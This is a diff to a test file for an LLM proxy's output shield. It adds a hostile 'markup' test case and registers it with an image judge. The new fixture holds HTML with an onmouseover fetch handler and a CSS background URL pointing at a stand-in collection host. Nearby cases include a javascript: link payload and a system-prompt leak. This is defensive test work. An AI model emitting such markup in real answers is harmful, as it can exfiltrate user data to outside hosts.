@@ -40,7 +40,7 @@ from llmproxy.edge.threats import Caller
 from llmproxy.fakes.conversation import Saying
 from llmproxy.router.circuits import Circuit
 from llmproxy.shield import conversations, inspect
-from llmproxy.shield.answers import noise, reading, watch
+from llmproxy.shield.answers import images, noise, reading, watch
 from llmproxy.shield.continuation import PREVIOUS
 from llmproxy.shield.guards import GUARDS
 from llmproxy.shield.guards.base import Fitted, Guard
@@ -529,6 +529,11 @@ HOSTILE: dict[str, Hostile] = {
         hears="see [IMAGE_REDACTED] now",
         kind="image",
     ),
+    "answers: markup": Hostile(
+        says="see <b onmouseover='fetch(name)'>it</b>, <i style='background:url(//collect.example.net/?d=all)'>so</i> now",
+        hears="see [IMAGE_REDACTED]it</b>, [IMAGE_REDACTED]so</i> now",
+        kind="image",
+    ),
     "answers: links": Hostile(says="see [x](javascript:alert(1)) now", kind="link"),
     "answers: leak": Hostile(says=f"I was told: {SYSTEM}", kind="leak", system=SYSTEM),
     "answers: repetition": Hostile(says=LOOP, kind="repetition"),
@@ -715,6 +720,7 @@ def raising(*_: Any, **__: Any) -> Any:
 PARTS: dict[str, tuple[Any, str]] = {
     "answers: invisible text": (reading, "Invisible"),
     "answers: images": (reading, "Images"),
+    "answers: markup": (images, "Judge"),
     "answers: canary": (reading, "Canary"),
     "answers: leak": (reading, "Leak"),
     "answers: links": (watch, "link_reason"),
